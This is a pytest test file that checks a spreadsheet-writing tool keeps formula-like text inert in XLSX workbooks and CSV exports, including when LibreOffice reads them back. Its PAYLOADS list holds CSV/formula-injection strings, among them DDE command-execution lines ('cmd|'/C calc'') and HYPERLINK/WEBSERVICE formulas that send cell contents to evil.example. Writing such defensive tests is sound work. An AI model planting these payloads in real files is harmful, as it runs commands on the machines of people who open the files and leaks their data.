"""Texts that look like formulas stay texts: through the writer and the CSV of tables, opened by LibreOffice, read back."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Mapping
from pathlib import Path

import pytest
import xlsxwriter

from officebot.connectors.tables import csv_text, workbook
from officebot.core.workbooks.cells import Address, Cell
from officebot.core.workbooks.lossless.appending import append
from officebot.core.workbooks.lossless.growing import place_of
from officebot.core.workbooks.lossless.setting import Change, plan
from officebot.core.workbooks.lossless.verifying import check
from officebot.testing.conversion import converted, is_installed
from tests.core.workbooks.making import opened, shown

PAYLOADS = (
    "=1+1", "=A1", "==1+1", "= 1+1", "=(1+1)", "='x'", '="a"&"b"', "=-1", "=TRUE", "={1,2}",
    "+1+1", "+A1", "++1", "+1-1*2", "-1+1", "-A1", "--1+1", "-(1)", "@SUM(1,1)", "@A1",
    "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1", "   +1+1", "\u00a0=1+1", "\u3000=1+1", "\u200b=1+1", "\ufeff=1+1",
    "\x00=1+1", "=1\x00+1", "\x1b=1+1", "\x0b=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)", "|calc", "%1+1",
    "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", "@SUM(cmd|'/C calc'!A0)", "=DDE(\"soffice\";\"a\";\"b\")",
    '=HYPERLINK("http://evil.example/?"&A1,"ici")', '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML("http://evil.example","//a")', '=IMAGE("http://evil.example/x.png")', "=INDIRECT(\"A1\")",
    '"=1+1"', '"=1+1', "'=1+1", "''=1+1", "`=1+1", "{=1+1}", 'x";=1+1', "x,=1+1", "x;=1+1\n=2+2", "_x003D_1+1",
    "=1+1'); DROP", "<f>1+1</f>", "</t></is><f>1+1</f>", "&#61;1+1",
)  # fmt: skip
#: What no workbook holds: XML has no such signs.
_UNHELD = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def test_there_are_as_many_payloads_as_were_promised() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 60


def _book() -> bytes:
    held = io.BytesIO()
    book = xlsxwriter.Workbook(held, {"in_memory": True})
    sheet = book.add_worksheet("Stock")
    sheet.write_row(0, 0, ["Article", "Quantité"])
    sheet.write_row(1, 0, ["Vis", 3])
    sheet.add_table(0, 0, 1, 1, {"name": "Articles", "columns": [{"header": "Article"}, {"header": "Quantité"}]})
    book.add_worksheet("Libre")
    book.close()
    return held.getvalue()


def by_set() -> bytes:
    """Each payload set into a cell of its own."""
    book = opened(_book())
    changes = [Change(Address("Libre", Cell(row, 1)), words) for row, words in enumerate(PAYLOADS, 1)]
    made, out = plan(book, changes), io.BytesIO()
    made.write(out)
    check(made, out)
    return out.getvalue()


def by_append() -> bytes:
    """Each payload appended as a row."""
    book = opened(_book())
    made, out = append(book, place_of(book.tables[0]), [{"Article": words} for words in PAYLOADS]), io.BytesIO()
    made.write(out)
    check(made, out)
    return out.getvalue()


_TABLE = {"columns": ["N°", "Article"], "rows": [[f"a{row}", words] for row, words in enumerate(PAYLOADS)]}
#: The workbooks, with the sheet, the column and the row at which payloads begin.
BOOKS: Mapping[str, tuple[bytes, str, int]] = {
    "set": (by_set(), "Libre!A", 1), "append": (by_append(), "Stock!A", 3), "table": (workbook(_TABLE), "1!B", 2),
}  # fmt: skip


def _formulas(data: bytes) -> list[bytes]:
    """The formulas in all sheets, found by nothing but their tags."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        sheets = [package.read(name) for name in package.namelist() if name.startswith("xl/worksheets/sheet")]
    return [one for text in sheets for one in re.findall(rb"<f[ >/][^<]*", text)]


@pytest.mark.parametrize("way", BOOKS)
def test_no_text_becomes_a_formula(way: str) -> None:
    data, place, first = BOOKS[way]
    sheet, _, column = place.partition("!")
    cells = shown(data, sheet, formulas=True)
    assert _formulas(data) == []
    for row, words in enumerate(PAYLOADS, first):
        assert isinstance(cells[f"{column}{row}"], str), words


@pytest.mark.parametrize("way", ["set", "append"])
def test_texts_are_kept_but_for_signs_that_no_workbook_holds(way: str) -> None:
    from python_calamine import CalamineWorkbook

    data, place, first = BOOKS[way]
    sheet = place.partition("!")[0]
    rows = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_name(sheet).to_python(skip_empty_area=False)
    for words, row in zip(PAYLOADS, rows[first - 1 :], strict=True):
        wanted = _UNHELD.sub("", words).replace("\r\n", "\n")
        # Readers make one line end of all kinds, as XML does (XML 1.0 §2.11).
        assert str(row[0]).replace("\r\n", "\n").replace("\r", "\n") == wanted.replace("\r", "\n")


@pytest.mark.parametrize("language", ["fr", "en"])
def test_a_csv_file_holds_one_cell_for_each_text(language: str) -> None:
    rows = _cut(language, ";" if language == "fr" else ",")
    assert [len(row) for row in rows] == [2] * (len(PAYLOADS) + 1)


@pytest.mark.parametrize("separator", [";", ",", "\t", "|"])
@pytest.mark.parametrize("language", ["fr", "en"])
def test_no_cell_of_a_csv_file_looks_like_a_formula_however_it_is_cut(language: str, separator: str) -> None:
    cells = [cell for row in _cut(language, separator) for cell in row]
    assert len(cells) > len(PAYLOADS)
    assert [cell for cell in cells if cell.lstrip(" \t\u00a0\u3000").startswith(tuple("=+-@%＝＋－＠"))] == []


def _cut(language: str, separator: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(csv_text(_TABLE, language), newline=""), delimiter=separator))


def test_words_without_any_formula_stay_as_they_are_in_csv() -> None:
    rows = [["50 %, soit 3/4"], ["a-b; c@d.example"], ["1,5"], ['dit "oui"'], ["de 8 h\nà 9 h"]]
    text = csv_text({"columns": ["a"], "rows": rows}, "fr")
    assert list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))[1:] == rows


@pytest.mark.timeout(180)
def test_libreoffice_finds_no_formula(tmp_path: Path) -> None:
    if not is_installed():
        from tests.conftest import missing

        missing("LibreOffice is missing: nobody reads the workbooks again")
    files = []
    for way, (data, _, _) in BOOKS.items():
        files.append(tmp_path / f"{way}.xlsx")
        files[-1].write_bytes(data)
    for language in ("fr", "en"):
        # A mark of the encoding first: LibreOffice would take the file for Windows' own otherwise.
        files.append(tmp_path / f"{language}.csv")
        files[-1].write_text(csv_text(_TABLE, language), encoding="utf-8-sig", newline="")
    # A workbook with formulas shows that they would be seen.
    files.append(tmp_path / "formula.csv")
    files[-1].write_text("Article\r\n=1+1\r\n", newline="")
    made = converted(files, tmp_path / "made", seconds=120)
    found = {one.name: len(_formulas(path.read_bytes())) for one, path in made.items()}
    assert found.pop("formula.csv") == 1
    assert found == {one.name: 0 for one in files[:-1]}
